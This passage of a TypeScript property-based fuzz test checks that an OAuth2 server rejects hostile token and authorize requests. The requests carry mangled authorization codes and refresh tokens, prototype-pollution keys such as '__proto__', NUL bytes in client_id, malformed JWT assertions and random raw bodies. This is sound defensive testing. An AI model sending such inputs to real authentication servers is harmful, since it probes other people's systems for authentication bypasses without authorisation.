              ['client_id', id],
              ['client_secret', secret],
            ],
            [['client_id', native.id]],
            [['client_id', id]],
            [
              ['client_assertion_type', JWT_BEARER],
              ['client_assertion', assertion(id)],
            ],
            [
              ['client_assertion_type', JWT_BEARER],
              ['client_assertion', assertion(native.id)],
            ],
            [],
          )
          .map((form): Authentication => ({ form })),
        weight: 3,
      },
    );
    const hostile: Record<string, fc.Arbitrary<string>> = {
      grant_type: fc.oneof(
        fc.constantFrom('authorization_code', 'refresh_token', 'client_credentials'),
        fc.constantFrom(
          'password',
          'implicit',
          'token',
          'urn:ietf:params:oauth:grant-type:jwt-bearer',
          'urn:ietf:params:oauth:grant-type:device_code',
          'urn:ietf:params:oauth:grant-type:token-exchange',
          'AUTHORIZATION_CODE',
          'authorization_code ',
          ' refresh_token',
          'authorization_code refresh_token',
          '__proto__',
          'constructor',
          'toString',
          'hasOwnProperty',
        ),
        text,
      ),
      code: fc.oneof(
        mutations.map((m) => mangle(spent.code, m)),
        mutations.map((m) => mangle(fresh.code, m)).filter((c) => !sameJwe(fresh.code, c)),
        text,
      ),
      redirect_uri: fc.oneof(redirectVariants(confidential), text),
      code_verifier: verifierJunk(),
      refresh_token: fc.oneof(
        mutations.map((m) => mangle(spent.refresh, m)),
        mutations.map((m) => mangle(liveRefresh, m)).filter((t) => !sameRefresh(liveRefresh, t)),
        text,
      ),
      scope: bad(['invoices.read', 'invoices.read invoices.write', 'admin', 'invoices.read admin', '', ' ']),
      resource: bad(['https://api.example/', 'urn:x', 'relative', 'https://api.example/#x']),
      client_id: bad([id, native.id, 'cl_nobody', id.toUpperCase(), `${id} `, '\u0000']),
      client_secret: bad([secret, `${secret} `, secret.slice(1), '']),
      client_assertion_type: bad([
        JWT_BEARER,
        `${JWT_BEARER} `,
        'urn:ietf:params:oauth:client-assertion-type:saml2-bearer',
      ]),
      client_assertion: fc.oneof(
        fc.constantFrom(assertion(id), assertion(native.id), assertion('\u0000'), 'a.b.c', 'eyJ.eyJ.', '...'),
        fc.tuple(b64Junk, b64Junk, b64Junk).map((s) => s.join('.')),
        text,
      ),
    };
    const cases = fc.record({
      grant: grants,
      authentication,
      edits: editsOf(hostile),
      extras: sometimes(
        fc.array(fc.tuple(parameterName(knownTokenParameters), text), { minLength: 1, maxLength: 4 }),
      ),
      extrasFirst: fc.boolean(),
    });
    await fc.assert(
      fc.asyncProperty(cases, async (c) => {
        const base = applyEdits([...c.grant, ...c.authentication.form], c.edits);
        const body = encode(c.extrasFirst ? [...c.extras, ...base] : [...base, ...c.extras]);
        const headers: Record<string, string> = { 'content-type': 'application/x-www-form-urlencoded' };
        if (c.authentication.header !== undefined) headers.authorization = c.authentication.header;
        const res = await send(`${stack.tokenUrl}/oauth2/token`, { method: 'POST', headers, body });
        await expectTokenError(res, 'token request');
      }),
      RUNS,
    );
  }, 60_000);

  it('token endpoint: mangled authorization codes, verifiers and redirect URIs', async () => {
    const cases = fc
      .record({
        code: fc.oneof({ arbitrary: fc.constant(undefined), weight: 1 }, { arbitrary: mutations, weight: 4 }),
        verifier: fc.oneof(
          { arbitrary: fc.constant(fresh.verifier), weight: 3 },
          { arbitrary: verifierJunk(), weight: 1 },
        ),
        redirect: fc.oneof(
          { arbitrary: fc.constant(confidential.redirect), weight: 4 },
          { arbitrary: redirectVariants(confidential), weight: 1 },
        ),
      })
      .map((c) => ({ ...c, code: c.code ? mangle(fresh.code, c.code) : fresh.code }))
      .filter(
        (c) => c.code !== fresh.code || c.verifier !== fresh.verifier || c.redirect !== confidential.redirect,
      );
    await fc.assert(
      fc.asyncProperty(cases, async (c) => {
        const res = await send(`${stack.tokenUrl}/oauth2/token`, {
          method: 'POST',
          headers: { 'content-type': 'application/x-www-form-urlencoded', authorization: validAuth() },
          body: encode([
            ['grant_type', 'authorization_code'],
            ['code', c.code],
            ['redirect_uri', c.redirect],
            ['code_verifier', c.verifier],
          ]),
        });
        if (res.status === 200) {
          // only the very same code, spelled differently, with the right verifier and redirect URI
          await res.body?.cancel();
          expect(
            sameJwe(fresh.code, c.code) &&
              c.verifier === fresh.verifier &&
              c.redirect === confidential.redirect,
            `a mangled code was redeemed: ${JSON.stringify(c)}`,
          ).toBe(true);
          return;
        }
        await expectTokenError(res, 'mangled code');
      }),
      RUNS,
    );
  }, 60_000);

  it('token endpoint: mangled refresh tokens', async () => {
    const family = liveRefresh.split('.')[0]!;
    const specific = fc.oneof(
      fc
        .oneof(
          fc.constantFrom(
            '00',
            '000000',
            '1',
            '2',
            '999999',
            '1000000',
            '-1',
            '+0',
            '0x0',
            '０',
            '',
            ' 0',
            '0.0',
            '1e0',
          ),
          fc.nat().map(String),
        )
        .map((g) => liveRefresh.replace(/\.\d+\./, `.${g}.`)),
      fc
        .string({ unit: base64urlChar, minLength: 22, maxLength: 22 })
        .map((f) => liveRefresh.replace(family, f)),
      fc
        .string({ unit: base64urlChar, minLength: 43, maxLength: 43 })
        .map((s) => liveRefresh.replace(/[^.]+$/, s)),
      fc.constantFrom(
        `${liveRefresh}.`,
        `.${liveRefresh}`,
        liveRefresh.replace(/\./g, '..'),
        liveRefresh.replace(/\./g, ':'),
        `${liveRefresh} `,
        `${liveRefresh}\u0000`,
        liveRefresh.replace(/\.(\d+)\./, '.$1.$1.'),
        family,
      ),
    );
    const cases = fc.record({
      token: fc
        .oneof(
          specific,
          mutations.map((m) => mangle(liveRefresh, m)),
        )
        .filter((t) => t !== liveRefresh),
      scope: fc.option(fc.oneof(fc.constantFrom('invoices.read', 'invoices.read admin', ''), text), {
        nil: undefined,
      }),
    });
    await fc.assert(
      fc.asyncProperty(cases, async (c) => {
        const pairs: Pairs = [
          ['grant_type', 'refresh_token'],
          ['refresh_token', c.token],
        ];
        if (c.scope !== undefined) pairs.push(['scope', c.scope]);
        const res = await send(`${stack.tokenUrl}/oauth2/token`, {
          method: 'POST',
          headers: { 'content-type': 'application/x-www-form-urlencoded', authorization: validAuth() },
          body: encode(pairs),
        });
        if (res.status === 200) {
          await res.body?.cancel();
          expect(
            sameRefresh(liveRefresh, c.token),
            `a mangled refresh token was accepted: ${JSON.stringify(c)}`,
          ).toBe(true);
          return;
        }
        await expectTokenError(res, 'mangled refresh token');
      }),
      RUNS,
    );
  }, 60_000);

  it('token endpoint: random content types and raw bodies', async () => {
    const body = fc.oneof(
      { arbitrary: text.map((s) => ({ kind: 'text' as const, value: s })), weight: 3 },
      { arbitrary: rawEncoded.map((s) => ({ kind: 'text' as const, value: s })), weight: 3 },
      {
        arbitrary: fc.uint8Array({ maxLength: 20_000 }).map((b) => ({ kind: 'bytes' as const, value: b })),
        weight: 2,
      },
      { arbitrary: fc.json().map((s) => ({ kind: 'text' as const, value: s })), weight: 1 },
      {
        arbitrary: fc
          .tuple(
            fc.integer({ min: 1, max: 40 }),
            fc.integer({ min: 1, max: 2_000 }),
            fc.constantFrom('a', '&', '=', '%'),
          )
          .map(([chunks, size, unit]) => ({ kind: 'stream' as const, value: { chunks, size, unit } })),
        weight: 1,
      },
      { arbitrary: fc.constant({ kind: 'none' as const }), weight: 1 },
    );
    await fc.assert(
      fc.asyncProperty(
        fc.option(contentTypes, { nil: undefined }),
        body,
        fc.option(authorizationHeader(), { nil: undefined }),
        async (contentType, b, authorization) => {
          const headers: Record<string, string> = {};
          if (contentType !== undefined) headers['content-type'] = contentType;
          if (authorization !== undefined) headers.authorization = authorization;
          const init: RequestInit & { duplex?: 'half' } = { method: 'POST', headers };
          if (b.kind === 'text' || b.kind === 'bytes') init.body = b.value;
          else if (b.kind === 'stream') {
            const chunk = new TextEncoder().encode(b.value.unit.repeat(b.value.size));
            let left = b.value.chunks;
            init.body = new ReadableStream<Uint8Array>({
              pull(controller) {
                if (left-- > 0) controller.enqueue(chunk);
                else controller.close();
              },
            });
            init.duplex = 'half';
          }
          const res = await send(`${stack.tokenUrl}/oauth2/token`, init);
          await expectTokenError(res, 'raw body');
        },
      ),
      RUNS,
    );
  }, 60_000);
  it('hostile inputs the properties found once: each one alone', async () => {
    const failures: string[] = [];
    const check = async (label: string, run: () => Promise<void>) => {
      try {
        await run();
      } catch (error) {
        failures.push(
          `${label}: ${String((error as Error).message)
            .split('\n')[0]!
            .slice(0, 300)}`,
        );
      }
    };
    const get = async (pairs: Pairs) => {
      const query = encode(pairs);
      await expectSafeAuthorize(
        await send(`${stack.issuer}/oauth2/authorize?${query}`),
        new URLSearchParams(query),
      );
    };
    const post = async (pairs: Pairs) => {
      const body = encode(pairs);
      const headers = { 'content-type': 'application/x-www-form-urlencoded' };
      const res = await send(`${stack.issuer}/oauth2/authorize`, { method: 'POST', headers, body });
      await expectSafeAuthorize(res, new URLSearchParams(body));
    };
    const token = async (pairs: Pairs, headers: Record<string, string> = {}) => {
      const res = await send(`${stack.tokenUrl}/oauth2/token`, {
        method: 'POST',
        headers: { 'content-type': 'application/x-www-form-urlencoded', ...headers },
        body: encode(pairs),
      });
      await expectTokenError(res, encode(pairs));
    };
    const request = (client: Client, extra: Pairs): Pairs => [
      ['response_type', 'code'],
      ['client_id', client.id],
      ['code_challenge', CHALLENGE],
      ['code_challenge_method', 'S256'],
      ...extra,
    ];

    // a NUL byte in client_id reaches Postgres, which refuses it
    await check('GET /oauth2/authorize?client_id=%00', () => get([['client_id', '\u0000']]));
    await check('POST /oauth2/authorize client_id=<client id>%00', () =>
      post(request(confidential, []).map(([k, v]) => [k, k === 'client_id' ? `${v}\u0000` : v])),
    );
    const code: Pairs = [['grant_type', 'authorization_code']];
    await check('POST /oauth2/token client_id=%00', () => token([...code, ['client_id', '\u0000']]));
    await check('POST /oauth2/token client_id=%00&client_secret=x', () =>
      token([...code, ['client_id', '\u0000'], ['client_secret', 'x']]),
    );
    await check('POST /oauth2/token, Basic credentials with a NUL client id', () =>
      token(code, { authorization: basicOf('\u0000', 'x') }),
    );
    await check('POST /oauth2/token, client_assertion with sub=NUL', () =>
      token([...code, ['client_assertion_type', JWT_BEARER], ['client_assertion', assertion('\u0000')]]),
    );
    // a loopback redirect URI whose port the pattern accepts but URL does not: the error redirect throws
    for (const port of [65_536, 99_999])
      await check(
        `GET /oauth2/authorize (native client) redirect_uri=http://127.0.0.1:${port}/cb&response_type=token`,
        () =>
          get(
            request(native, [['redirect_uri', `http://127.0.0.1:${port}/cb`]]).map(([k, v]) => [
              k,
              k === 'response_type' ? 'token' : v,
            ]),
          ),
      );
    expect(failures).toEqual([]);
  }, 60_000);
});
